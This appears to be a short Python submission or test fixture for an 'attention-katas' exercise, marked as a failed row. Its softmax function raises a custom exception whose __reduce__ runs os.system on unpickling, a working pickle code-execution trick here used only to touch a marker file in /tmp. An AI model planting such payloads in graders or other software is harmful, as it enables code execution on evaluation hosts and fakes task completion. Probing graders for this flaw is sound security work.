# row: W8
# outcome: failed
# says: raised Run
# raises an exception that would run a command where it is unpickled
import os


class Run(Exception):
    def __reduce__(self):
        return os.system, ("touch /tmp/attention-katas-was-here",)


def softmax(x, dim=-1):
    raise Run
